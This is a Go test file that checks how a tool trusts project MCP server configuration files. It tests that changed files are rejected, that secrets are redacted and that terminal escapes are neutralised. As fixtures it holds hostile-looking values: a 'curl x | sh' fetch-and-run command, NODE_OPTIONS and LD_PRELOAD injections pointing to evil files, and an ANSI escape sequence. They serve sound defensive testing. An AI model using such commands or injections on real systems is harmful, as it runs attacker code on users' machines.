package config

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func inspect(t *testing.T, m *machine) *Project {
	t.Helper()
	project, err := InspectProject(context.Background(), m.options(), m.dir)
	if err != nil {
		t.Fatal(err)
	}
	return project
}

// A project's files count from when they are trusted until they change.
func TestTrust(t *testing.T) {
	m := newMachine(t, "linux")
	opts := m.options()
	opts.Sources = nil // the default
	check := func(step string, wantServers []string, wantProblems ...string) {
		t.Helper()
		servers, problems := m.load(t, opts)
		var got []string
		for _, s := range servers {
			got = append(got, s.Name)
		}
		if !reflect.DeepEqual(got, wantServers) {
			t.Errorf("%s: servers %q, want %q", step, got, wantServers)
		}
		if !reflect.DeepEqual(problems, wantProblems) {
			t.Errorf("%s: problems:\n got %q\nwant %q", step, problems, wantProblems)
		}
	}
	const changed = "not used: it is not what was trusted; look at it again with codeexec servers trust $DIR"
	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {"a": {"command": "a"}}}`)
	m.write(t, "$DIR/mcp-servers/b.json", `{"mcpServers": {"b": {"command": "b"}}}`)
	check("a fresh clone", nil,
		"hint: $DIR/.mcp.json: not used: nobody has trusted it; see codeexec servers trust $DIR",
		"hint: $DIR/mcp-servers/b.json: not used: nobody has trusted it; see codeexec servers trust $DIR")

	if err := inspect(t, m).Trust(opts.StateDir); err != nil {
		t.Fatal(err)
	}
	check("trusted", []string{"a", "b"})

	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {"a": {"command": "evil"}}}`)
	check("one file changed", []string{"b"}, "$DIR/.mcp.json: "+changed)
	m.write(t, "$DIR/mcp-servers/c.json", `{"mcpServers": {"c": {"command": "c"}}}`)
	check("one file appeared", []string{"b"}, "$DIR/.mcp.json: "+changed, "$DIR/mcp-servers/c.json: "+changed)
	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {"a": {"command": "a"}}}`)
	check("as it was", []string{"a", "b"}, "$DIR/mcp-servers/c.json: "+changed)

	if err := inspect(t, m).Trust(opts.StateDir); err != nil {
		t.Fatal(err)
	}
	check("trusted again", []string{"a", "b", "c"})

	// The same directory by another name.
	link := filepath.Join(filepath.Dir(m.dir), "link")
	if err := os.Symlink(m.dir, link); err != nil {
		t.Fatal(err)
	}
	opts.Dir = link
	servers, problems := m.load(t, opts)
	if len(servers) != 3 || len(problems) > 0 {
		t.Errorf("by a link: %+v, %q", servers, problems)
	}
	opts.Dir = m.dir

	if known, err := RevokeTrust(opts.StateDir, link); !known || err != nil {
		t.Errorf("revoke: %v, %v", known, err)
	}
	if known, err := RevokeTrust(opts.StateDir, m.dir); known || err != nil {
		t.Errorf("revoke again: %v, %v", known, err)
	}
	if servers, _ := m.load(t, opts); len(servers) > 0 {
		t.Errorf("revoked, but %+v", servers)
	}

	info, err := os.Stat(trustPath(opts.StateDir))
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	if err := os.WriteFile(trustPath(opts.StateDir), []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, problems = m.load(t, opts)
	if len(problems) == 0 || problems[0] != "$HOME/MCPs/.trust.json: no project is trusted: the file is damaged; remove it, and trust projects again" {
		t.Errorf("a damaged store: %q", problems)
	}
}

// What somebody is about to trust is shown, without secrets and without what
// would change how a terminal shows it.
func TestInspectProject(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {
		"run": {"command": "sh", "args": ["-c", "curl x | sh", "a\u001b[2Jb", ""], "env": {"TOKEN": "t0p-s3cret", "A": "t0p-s3cret"}},
		"web": {"url": "https://me:t0p-s3cret@x.test/mcp?key=t0p-s3cret", "headers": {"Authorization": "t0p-s3cret"}},
		"var": {"command": "${HOME}/x", "args": ["${TOKEN}"]},
		"bad": {"args": []},
		"na\u001bme": {"command": "x"}
	}}`)
	m.write(t, "$DIR/.vscode/mcp.json", `{"servers": {"v": {"command": "v"}}}`)
	m.write(t, "$DIR/.gemini/settings.json", `{"theme": "x"}`)
	m.write(t, "$DIR/.zed/settings.json", `{`)
	m.env["TOKEN"] = "t0p-s3cret"
	project := inspect(t, m)
	var got []string
	for _, file := range project.Files {
		got = append(got, m.short(file.Path)+" "+string(file.State)+" "+file.Problem)
		for _, s := range file.Servers {
			got = append(got, strings.Join([]string{s.Name, s.Transport, s.Target, s.Problem}, "|"))
		}
	}
	want := []string{
		"$DIR/.mcp.json new ",
		`run|stdio|A=… TOKEN=… sh -c 'curl x | sh' "a\x1b[2Jb" ''|`,
		"web|http|https://x.test/mcp …|",
		"var|stdio|${HOME}/x ${TOKEN}|",
		`bad|||it has neither "command" nor "url"`,
		`"na\x1bme"|||its name has characters that can't be printed`,
		"$DIR/.vscode/mcp.json new ",
		"v|stdio|v|",
		"$DIR/.zed/settings.json new it isn't JSON: syntax error at line 2, column 1",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if _, err := InspectProject(context.Background(), m.options(), m.path("$DIR/.mcp.json")); err == nil {
		t.Error("a file was taken for a directory")
	}
}

// Files that aren't trusted aren't followed to others either.
func TestUntrustedFilesAreNotFollowed(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {"a": {"command": "a", "envFile": "no-such-file"}}}`)
	_, problems := m.load(t, m.options(SourceProject))
	if len(problems) != 1 || strings.Contains(problems[0], "envFile") {
		t.Errorf("problems %q", problems)
	}
}

// What a project's entries take from other files counts as it was trusted too.
func TestTrustOfFilesThatEntriesName(t *testing.T) {
	m := newMachine(t, "linux")
	m.write(t, "$DIR/.mcp.json", `{"mcpServers": {
		"plain": {"command": "a"},
		"vars": {"command": "a", "envFile": ".env"},
		"text": {"url": "https://x.test/mcp", "headers": {"Authorization": "Bearer ${file:`+m.path("$HOME/token")+`}"}},
		"none": {"command": "a", "envFile": "missing"}
	}}`)
	m.write(t, "$DIR/.env", "NODE_OPTIONS=--no-warnings\n")
	m.write(t, "$HOME/token", "t0p-s3cret")
	names := func() (names []string) {
		servers, problems := m.load(t, m.options(SourceProject))
		for _, s := range servers {
			names = append(names, s.Name)
		}
		if strings.Contains(strings.Join(problems, ""), "t0p") {
			t.Errorf("problems %q", problems)
		}
		return names
	}
	trust := func() {
		t.Helper()
		project := inspect(t, m)
		if err := project.Trust(m.options().StateDir); err != nil {
			t.Fatal(err)
		}
		if got := names(); !reflect.DeepEqual(got, []string{"none", "plain", "text", "vars"}) {
			t.Errorf("trusted: %q", got)
		}
	}
	trust()
	tests := []struct {
		name, file, text string
		lost             string
	}{
		{"a file of variables", "$DIR/.env", "NODE_OPTIONS=--require=/tmp/evil.js\n", "vars"},
		{"a file of a value", "$HOME/token", "t0p-evil", "text"},
		{"a file that wasn't there", "$DIR/missing", "LD_PRELOAD=/tmp/evil.so", "none"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m.write(t, tc.file, tc.text)
			servers, problems := m.load(t, m.options(SourceProject))
			for _, s := range servers {
				if s.Name == tc.lost {
					t.Errorf("%+v is used", s)
				}
			}
			if len(servers) != 3 || !strings.Contains(strings.Join(problems, "\n"), `server "`+tc.lost+`": not used: `) {
				t.Errorf("%d servers, problems %q", len(servers), problems)
			}
			if state := inspect(t, m).Files[0].State; state != trustChanged {
				t.Errorf("it is shown as %s", state)
			}
			trust()
		})
	}
}
